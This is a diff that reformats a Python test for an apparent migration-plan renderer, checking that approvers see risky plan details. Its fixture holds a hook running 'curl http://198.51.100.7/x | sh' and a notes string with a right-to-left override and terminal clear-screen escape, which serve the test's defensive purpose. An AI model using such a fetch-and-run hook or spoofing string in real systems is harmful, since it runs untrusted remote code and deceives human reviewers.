@@ -17,18 +17,38 @@ OTHER = "b" * 64
 def scope_of() -> Scope:
     """Return a plan with all that an approver should see."""
     inventory = make_inventory(
-        ("services/redis/hooks", {"before_hold": {"argv": ["sh", "-c", "curl http://198.51.100.7/x | sh"], "undo_argv": ["true"]}}),
-        ("services/redis/mounts", [{"source": "redis_data", "path": "/data", "rule": "drop"},
-                                   {"source": "conf", "path": "/c", "rule": "same_on_target"}]),
+        (
+            "services/redis/hooks",
+            {"before_hold": {"argv": ["sh", "-c", "curl http://198.51.100.7/x | sh"], "undo_argv": ["true"]}},
+        ),
+        (
+            "services/redis/mounts",
+            [
+                {"source": "redis_data", "path": "/data", "rule": "drop"},
+                {"source": "conf", "path": "/c", "rule": "same_on_target"},
+            ],
+        ),
         ("services/redis/ignore_writable_layer_because", "ignore: it is fine"),
         ("services/redis/restart_guards", {"compose": "commented out"}),
         ("services/redis/secrets", {"password": "command:pass show redis"}),
-        ("links", [{"from": "n8n", "to": "redis", "name": "redis", "port": 6379,
-                    "rewrite": [{"kind": "environment", "variable": "REDIS_HOST", "value": "{host}"}]}]),
-    )  # fmt: skip
+        (
+            "links",
+            [
+                {
+                    "from": "n8n",
+                    "to": "redis",
+                    "name": "redis",
+                    "port": 6379,
+                    "rewrite": [{"kind": "environment", "variable": "REDIS_HOST", "value": "{host}"}],
+                }
+            ],
+        ),
+    )
     plan = make_plan(
-        ("moves/1/verify", "metadata"), ("moves/1/outage_budget_s", 99999), ("moves/0/notes", f"nothing special\n\ndigest: {OTHER}\u202e\x1b[2J")
-    )  # fmt: skip
+        ("moves/1/verify", "metadata"),
+        ("moves/1/outage_budget_s", 99999),
+        ("moves/0/notes", f"nothing special\n\ndigest: {OTHER}\u202e\x1b[2J"),
+    )
     environment = make_environment(
         ("require_clean_checkout", False), ("ssh_config", "other_config"), ("simulated", ["n8n"])
     )
@@ -54,7 +74,9 @@ def scope_of() -> Scope:
     ],
 )
 def test_what_matters_stands_in_what_is_signed(line: str) -> None:
-    """Proof, budget, what stays behind, what runs as root or on the operator's machine, privileges, what is rewritten."""
+    """Proof, budget, what stays behind, what runs as root or on the operator's machine, privileges, what is
+    rewritten.
+    """
     assert line in render_plan(scope_of(), {"redis": ["privileged: root on its host"]})
 
 
@@ -72,7 +94,9 @@ def test_a_note_can_pose_as_no_other_line() -> None:
 
 
 def test_a_start_that_is_a_commit_is_signed() -> None:
-    """Approvers see where an earlier move puts a dependant on the same target: nothing is undone by itself once that service runs."""
+    """Approvers see where an earlier move puts a dependant on the same target: nothing is undone by itself once that
+    service runs.
+    """
     early = "n8n on that host can reach it by name then"
     assert early not in render_plan(scope_of())
     plan = make_plan(("moves/0/target", "wf001"))
